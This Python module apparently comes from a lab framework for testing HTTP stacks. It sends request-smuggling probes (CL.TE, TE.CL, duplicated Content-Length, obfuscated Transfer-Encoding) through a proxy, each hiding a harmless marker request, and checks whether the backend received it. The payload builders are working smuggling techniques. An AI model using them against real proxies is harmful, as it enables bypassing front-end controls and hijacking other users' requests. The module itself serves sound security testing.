"""Request smuggling through a proxy path: a request whose framing the front and the back
may read differently, carrying a hidden request for /_lab/mark/<token>. The app records
every request that reaches /_lab/mark; the probe then asks the server (directly) whether
the token arrived, and counts the answers the proxy gave: a hidden request the proxy
answered as its own was not smuggled, only forwarded."""

from __future__ import annotations

import socket
import time

from asgilab.attacks import goodclient
from asgilab.attacks.model import Context, Strike

SETTLE_S = 0.3  # for a hidden request still on its way to the app


def _hidden(ctx: Context) -> bytes:
    return (f"GET /_lab/mark/{ctx.token} HTTP/1.1\r\nHost: {ctx.edge.host}\r\n"
            "X-Smuggled: 1\r\n\r\n").encode()


def _head(ctx: Context, extra: str) -> bytes:
    return (f"POST /echo HTTP/1.1\r\nHost: {ctx.edge.host}:{ctx.edge.port}\r\n"
            f"Content-Type: application/octet-stream\r\n{extra}\r\n").encode()


def _send(ctx: Context, payload: bytes, technique: str) -> Strike:
    """One connection: the ambiguous request, then an ordinary one; then the server's record."""
    s = Strike(connections=1)
    payload += goodclient.request(ctx.edge, "/query")
    ctx.tr.send(f"{technique}: {payload[:300]!r}")
    statuses: list[str] = []
    try:
        with socket.create_connection((ctx.edge.host, ctx.edge.port), timeout=ctx.timeout) as sock:
            sock.settimeout(min(ctx.timeout, max(ctx.left(), 0.5)))
            sock.sendall(payload)
            s.sent_frames, s.sent_bytes = 1, len(payload)
            data = b""
            try:
                while chunk := sock.recv(65536):
                    data += chunk
            except TimeoutError:
                s.endings["no close within the wait"] += 1
            except OSError:
                s.endings["connection reset"] += 1
            else:
                s.endings["connection closed"] += 1
    except OSError as exc:
        s.detail["error"] = f"no connection to {ctx.edge}: {exc}"
        return s
    statuses = [ln.decode("latin-1")[:40] for ln in data.split(b"\r\n") if ln.startswith(b"HTTP/1.")]
    s.detail["proxy_answers"] = statuses
    ctx.tr.recv(f"{len(statuses)} answer(s): {'; '.join(statuses) or 'none'}")
    if ctx.seen is None:
        return s
    time.sleep(SETTLE_S)
    seen = ctx.seen(ctx.token)
    if seen is None:
        s.detail["error"] = "the server's record (/_lab/seen) did not answer"
        return s
    reached = len(seen)
    s.detail["hidden_requests_at_server"] = reached
    # The proxy saw the hidden request as a request of its own if it answered it: then there
    # are more answers than the two requests it was sent (the ambiguous one and the follow-up).
    own = len(statuses) > 2
    s.smuggled = reached > 0 and not own
    s.cut_off = bool(statuses) and statuses[0][9:10] == "4"  # refused at the front
    ctx.tr.note(f"the server saw {reached} request(s) with the token; the proxy answered {len(statuses)}")
    return s


def cl_te(ctx: Context) -> Strike:
    body = b"0\r\n\r\n" + _hidden(ctx)
    head = _head(ctx, f"Content-Length: {len(body)}\r\nTransfer-Encoding: chunked\r\n")
    return _send(ctx, head + body, "CL.TE")


def te_cl(ctx: Context) -> Strike:
    hidden = _hidden(ctx)
    chunk = f"{len(hidden):x}\r\n".encode() + hidden + b"\r\n0\r\n\r\n"
    return _send(ctx, _head(ctx, "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n") + chunk, "TE.CL")


def dup_cl(ctx: Context) -> Strike:
    hidden = _hidden(ctx)
    return _send(ctx, _head(ctx, f"Content-Length: 0\r\nContent-Length: {len(hidden)}\r\n") + hidden,
                 "duplicated Content-Length")


def te_obfuscated(ctx: Context) -> Strike:
    body = b"0\r\n\r\n" + _hidden(ctx)
    return _send(ctx, _head(ctx, f"Content-Length: {len(body)}\r\nTransfer-Encoding : chunked\r\n") + body,
                 "obfuscated Transfer-Encoding")
